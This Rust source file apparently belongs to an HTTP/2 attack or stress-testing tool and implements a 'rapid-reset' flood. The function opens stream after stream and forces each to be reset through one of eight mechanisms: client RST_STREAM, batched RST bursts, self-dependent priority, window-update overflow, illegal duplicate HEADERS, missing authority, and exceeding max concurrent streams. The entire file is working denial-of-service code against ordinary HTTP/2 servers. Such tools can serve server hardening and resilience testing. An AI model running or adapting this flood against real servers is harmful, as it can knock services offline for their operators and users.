//! Rapid-reset family: force the server to allocate a stream, then make it
//! throw the stream away. Every iteration opens a fresh client stream; the
//! sub-kind picks the mechanism that gets the stream reset, either an
//! explicit client RST_STREAM in the canonical case or a protocol violation
//! the server has to answer with one.

use squall_h2_parse::{
    Frame, FrameType, HeadersFlags, KnownErrorCode, PrioritySpec, RstStream, Setting, SettingPairs,
    StreamId,
};
use tokio::io::{AsyncRead, AsyncWrite};

use crate::conn::{request_block, Conn};

use super::{Params, RapidResetKind};

/// In batch mode, RST_STREAM frames go out in one burst of this many per
/// [`BATCH_EVERY`] opened streams.
pub const BATCH_SIZE: u32 = 50;
pub const BATCH_EVERY: usize = 100;

pub async fn flood<IO: AsyncRead + AsyncWrite + Send + 'static>(
    conn: &mut Conn<IO>,
    kind: RapidResetKind,
    params: &Params,
) -> eyre::Result<()> {
    let mut stream_id = 1u32;

    for sent in 0..params.frame_count {
        let sid = StreamId(stream_id);

        match kind {
            // one HEADERS per stream; once the server's advertised
            // MAX_CONCURRENT_STREAMS is exceeded it has to refuse each new
            // stream itself
            RapidResetKind::HeadersByMaxStreamsExceeded => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(sid, HeadersFlags::EndHeaders, &block)
                    .await?;
            }
            RapidResetKind::HeadersByInvalidDependency => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers_with_priority(
                    sid,
                    HeadersFlags::EndHeaders,
                    self_dependency(sid),
                    &block,
                )
                .await?;
            }
            RapidResetKind::IncorrectFrameType => {
                // only before the first stream: a zero window keeps the
                // stream from closing before the second HEADERS arrives
                if stream_id == 1 {
                    conn.write_settings(SettingPairs(&[(Setting::InitialWindowSize, 0)]))
                        .await?;
                }
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(
                    sid,
                    HeadersFlags::EndHeaders | HeadersFlags::EndStream,
                    &block,
                )
                .await?;
                // a second HEADERS on the same stream is illegal after
                // END_STREAM
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(
                    sid,
                    HeadersFlags::EndHeaders | HeadersFlags::EndStream,
                    &block,
                )
                .await?;
            }
            RapidResetKind::IncorrectHeader => {
                let block = request_block("GET", "/", "https", None)?;
                conn.write_headers(
                    sid,
                    HeadersFlags::EndHeaders | HeadersFlags::EndStream,
                    &block,
                )
                .await?;
            }
            RapidResetKind::WindowUpdate => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(sid, HeadersFlags::EndHeaders, &block)
                    .await?;
                // overflows the stream's flow-control window
                conn.write_window_update(sid, (1 << 31) - 1).await?;
            }
            RapidResetKind::Priority => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(sid, HeadersFlags::EndHeaders, &block)
                    .await?;
                conn.write_priority(sid, self_dependency(sid)).await?;
            }
            RapidResetKind::Rst => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(sid, HeadersFlags::EndHeaders, &block)
                    .await?;
                conn.write_rst_stream(sid, KnownErrorCode::ProtocolError)
                    .await?;
            }
            RapidResetKind::Batch => {
                let block = request_block("GET", "/", "https", Some("localhost"))?;
                conn.write_headers(sid, HeadersFlags::EndHeaders, &block)
                    .await?;
                if (sent + 1) % BATCH_EVERY == 0 {
                    conn.send(&rst_burst(stream_id)?).await?;
                }
            }
        }

        stream_id += 2;
    }

    Ok(())
}

fn self_dependency(sid: StreamId) -> PrioritySpec {
    PrioritySpec {
        exclusive: false,
        stream_dependency: sid,
        weight: 0,
    }
}

/// Serialise RST_STREAM(PROTOCOL_ERROR) for the last [`BATCH_SIZE`] streams
/// up to and including `newest`, oldest first, as one write burst.
fn rst_burst(newest: u32) -> eyre::Result<Vec<u8>> {
    let mut buf = Vec::with_capacity(BATCH_SIZE as usize * 13);
    let oldest = newest - 2 * (BATCH_SIZE - 1);
    let mut id = oldest;
    while id <= newest {
        Frame::new(FrameType::RstStream, StreamId(id))
            .with_len(4)
            .write_into(&mut buf)?;
        RstStream {
            error_code: KnownErrorCode::ProtocolError.into(),
        }
        .write_into(&mut buf)?;
        id += 2;
    }
    Ok(buf)
}
